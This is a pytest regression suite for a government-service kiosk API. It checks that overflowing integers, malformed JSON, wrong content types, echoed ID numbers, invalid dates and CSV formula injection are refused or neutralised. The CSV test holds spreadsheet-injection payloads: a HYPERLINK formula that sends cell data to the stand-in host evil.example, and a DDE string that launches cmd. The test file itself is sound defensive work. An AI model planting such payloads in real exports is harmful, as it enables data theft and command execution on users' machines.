"""Every finding of issue 18's outside check, over real HTTP: each one a 4xx with a clear code
now (they were 500s, silent acceptances or echoes before)."""

from __future__ import annotations

import csv
import io
import json
import uuid
from typing import Any

import pytest
import requests
from hypothesis import given, settings
from hypothesis import strategies as st

from central.errors import ApiError
from central.exports import FORMULA_START, neutralise
from central.wire import strict_json
from kiosk import central_api as api
from kiosk.catalogue.signing import sign_catalogue
from tests.central.conftest import ID_NUMBER, KEY_ID, Service, catalogue_dict, submission

PENSION = {
    "code": "RS-0103",
    "name_zh": "养老待遇资格认证",
    "name_en": "Pension eligibility",
    "kind": "apply",
    "order": 9,
    "department_zh": "社保中心",
    "department_en": "Social insurance",
    "category": "social",
    "auth": "id_card",
    "devices": ["idcard"],
    "fields": [
        {
            "name": "id_number",
            "type": "id_number",
            "label_zh": "身份证号码",
            "label_en": "ID number",
            "prefill": "id_card.id_number",
        },
        {
            "name": "scheme",
            "type": "choice",
            "label_zh": "养老保险类型",
            "label_en": "Pension scheme",
            "options": [
                {"value": "enterprise", "zh": "企业职工", "en": "Enterprise"},
                {"value": "resident", "zh": "城乡居民", "en": "Residents"},
            ],
        },
        {
            "name": "phone",
            "type": "phone",
            "label_zh": "联系电话",
            "label_en": "Mobile",
            "required": False,
        },
    ],
}


def _error(r: requests.Response, status: int, code: str) -> dict[str, Any]:
    assert (r.status_code, r.json().get("error")) == (status, code), r.text
    return r.json()  # type: ignore[no-any-return]


def _raw(
    service: Service,
    path: str,
    body: bytes,
    *,
    content_type: str = "application/json",
    key: str | None = None,
) -> requests.Response:
    hdrs = api.signed_headers(
        service.terminal.terminal_id, service.secret, "POST", path, body, idempotency_key=key
    )
    hdrs["Content-Type"] = content_type
    return requests.post(service.url + path, data=body, headers=hdrs, timeout=10)


def _hb(**extra: Any) -> dict[str, Any]:
    return {
        "devices": {},
        "catalogue_version": 0,
        "outbox_depth": 0,
        "app_version": "1",
        "uptime_s": 1,
        **extra,
    }


# --- bounded integers ----------------------------------------------------------------------


@pytest.mark.parametrize("version", [2**63, 2**63 - 1, 2**31, -1, 10**400])
def test_out_of_range_integers_are_422_not_500(service: Service, version: int) -> None:
    """Finding: catalogue_version = 2^63 → 500 (OverflowError in store_heartbeat)."""
    r = service.terminal.call(
        "POST",
        "/v1/heartbeat",
        raw=json.dumps(_hb(catalogue_version=version)).encode()
        if version != 10**400
        else b'{"devices":{},"catalogue_version":1' + b"0" * 400 + b',"outbox_depth":0,'
        b'"app_version":"1","uptime_s":1}',
    )
    assert r.status_code in (400, 422), r.text
    assert str(version)[:12] not in r.text
    assert service.terminal.heartbeat(catalogue_version=2**31 - 1).status_code == 200


def test_field_integers_and_dates_are_bounded(service: Service) -> None:
    r = service.terminal.submit(fields={"amount": 2**63})
    _error(r, 422, "validation_failed")
    assert service.terminal.submit(fields={"amount": 2**53 - 1}).status_code == 201
    case_no = service.terminal.submit().json()["case_no"]
    for when in ("0001-01-01T00:00:00", "9999-12-31T23:59:59+14:00", "1969-12-31T23:59:59Z"):
        _error(service.terminal.rate(case_no, rated_at=when), 422, "validation_failed")
    assert service.terminal.rate(case_no, rated_at="2026-11-25T10:00:00+08:00").status_code == 201


# --- strict JSON and the content type --------------------------------------------------------


@pytest.mark.parametrize(
    "body, why",
    [
        (
            b'{"devices":{},"catalogue_version":0,"outbox_depth":0,"app_version":"1","uptime_s":NaN}',
            "syntax",
        ),
        (
            b'{"devices":{},"catalogue_version":0,"outbox_depth":0,"app_version":"1","uptime_s":Infinity}',
            "syntax",
        ),
        (
            b'{"devices":{},"catalogue_version":0,"catalogue_version":5,"outbox_depth":0,'
            b'"app_version":"1","uptime_s":1}',
            "duplicate key",
        ),
        (
            b'{"devices":{},"catalogue_version":0,"outbox_depth":0,"app_version":"1\\u0000",'
            b'"uptime_s":1}',
            "NUL character",
        ),
        (b"[" * 100 + b"]" * 100, "nested too deeply"),
        (b"\xff\xfe{}", "syntax"),
    ],
)
def test_strict_json(service: Service, body: bytes, why: str) -> None:
    """Finding: NaN, a NUL character and duplicate JSON keys were accepted."""
    err = _error(_raw(service, "/v1/heartbeat", body), 400, "invalid_json")
    assert why in err["message"]


def test_nul_in_a_name_is_refused(service: Service) -> None:
    sub = submission(applicant={"id_number": ID_NUMBER, "name": "张\u0000三"})
    _error(
        service.terminal.call("POST", "/v1/submissions", sub, key=str(uuid.uuid4())),
        400,
        "invalid_json",
    )


@pytest.mark.parametrize(
    "ctype",
    [
        "text/plain",
        "application/x-www-form-urlencoded",
        "application/json; charset=latin-1",
        "",
        "application/jsonp",
    ],
)
def test_bodies_must_be_application_json(service: Service, ctype: str) -> None:
    """Finding: `Content-Type: text/plain` was parsed as JSON."""
    _error(
        _raw(service, "/v1/heartbeat", json.dumps(_hb()).encode(), content_type=ctype),
        415,
        "unsupported_media_type",
    )
    for ok in (
        "application/json",
        "application/json; charset=utf-8",
        "Application/JSON;charset=UTF-8",
    ):
        assert (
            _raw(service, "/v1/heartbeat", json.dumps(_hb()).encode(), content_type=ok).status_code
            == 200
        )


# --- messages never echo input ---------------------------------------------------------------


def test_404_and_422_never_echo_input(service: Service) -> None:
    """Finding: a 404 echoed the path, so an ID number sent as an item code came back in full."""
    r = service.terminal.call(
        "POST",
        f"/v1/queries/{ID_NUMBER}",
        {"region_code": "610900", "identity": {"id_number": ID_NUMBER}},
    )
    _error(r, 404, "unknown_item")
    r = service.terminal.call("GET", f"/v1/cases/{ID_NUMBER}")
    _error(r, 404, "unknown_case")
    assert ID_NUMBER not in r.text
    r = service.terminal.submit(fields={ID_NUMBER: "x"})
    _error(r, 422, "validation_failed")
    assert ID_NUMBER not in r.text
    r = service.terminal.submit(**{ID_NUMBER: 1})
    _error(r, 422, "validation_failed")
    assert ID_NUMBER not in r.text
    r = service.terminal.rate(service.terminal.submit().json()["case_no"], "不满意", [ID_NUMBER])
    _error(r, 422, "unknown_tag")
    assert ID_NUMBER not in r.text
    r = requests.get(f"{service.url}/nothing/{ID_NUMBER}", timeout=10)
    assert r.status_code == 404 and ID_NUMBER not in r.text


# --- item fields against the active catalogue ------------------------------------------------


def test_item_fields_are_validated_against_the_catalogue(service: Service) -> None:
    """Finding: a submission for RS-0103 with `"fields": {}` → 201 though it requires fields."""
    cat = catalogue_dict(2)
    cat["items"].append(PENSION)
    bundle = json.dumps(sign_catalogue(cat, service.key, KEY_ID), ensure_ascii=False).encode()
    assert service.publish(bundle).status_code == 200
    err = _error(service.terminal.submit("RS-0103", fields={}), 422, "invalid_fields")
    assert "id_number: required" in err["message"] and "scheme: required" in err["message"]
    err = _error(
        service.terminal.submit(
            "RS-0103", fields={"id_number": "110105194912310021", "scheme": "nobody", "phone": "12"}
        ),
        422,
        "invalid_fields",
    )
    assert err["message"].count("refused") == 3 and "110105" not in err["message"]
    r = service.terminal.submit("RS-0103", fields={"id_number": ID_NUMBER, "scheme": "resident"})
    assert r.status_code == 201, r.text


# --- dates of the staff API --------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "to=0",
        "from=0",
        "to=2026-13-01",
        "from=20261125",
        "to=1970-01-01",
        "from=2026-02-30",
        "to=%00",
    ],
)
def test_rating_dates_are_validated(service: Service, query: str) -> None:
    """Finding: `GET /v1/admin/ratings?to=0` → 200 (read as 1970-01-01)."""
    r = service.admin(f"/v1/admin/ratings?{query}")
    assert r.status_code == 422, r.text
    assert r.json()["error"] == "validation_failed" and r.json()["message"].startswith("query.")


def test_rating_dates_still_filter(service: Service) -> None:
    assert service.admin("/v1/admin/ratings?from=2026-01-01&to=2099-12-31").status_code == 200


# --- CSV injection -------------------------------------------------------------------------------


def test_csv_export_neutralises_formula_cells(service: Service) -> None:
    """Finding: a rating comment `=HYPERLINK(...)` came out unescaped in the CSV export."""
    comments = [
        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "正常的意见",
    ]
    for c in comments:
        case_no = service.terminal.submit().json()["case_no"]
        assert service.terminal.rate(case_no, comment=c).status_code == 201
    text = service.admin("/v1/admin/ratings?format=csv").text.lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["comment"] for r in rows] == ["'" + c for c in comments[:4]] + [comments[4]]
    for row in rows:
        assert not any(v.startswith(FORMULA_START) for v in row.values())


def test_neutralise_covers_every_formula_start() -> None:
    for lead in FORMULA_START:
        assert neutralise(lead + "x") == "'" + lead + "x"
    assert neutralise("a=b") == "a=b" and neutralise(None) == "" and neutralise(-5) == "'-5"


# --- strict JSON: properties -----------------------------------------------------------------

json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",))),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.text(
                st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)), max_size=8
            ),
            inner,
            max_size=4,
        )
    ),
    max_leaves=20,
)


@given(json_values)
@settings(max_examples=200, deadline=None)
def test_strict_json_takes_what_the_rules_allow(value: Any) -> None:
    assert strict_json(json.dumps(value, ensure_ascii=False).encode()) == value


@given(st.binary(max_size=200))
@settings(max_examples=300, deadline=None)
def test_strict_json_refuses_with_invalid_json_only(raw: bytes) -> None:
    try:
        strict_json(raw)
    except ApiError as exc:
        assert (exc.status, exc.code) == (400, "invalid_json")
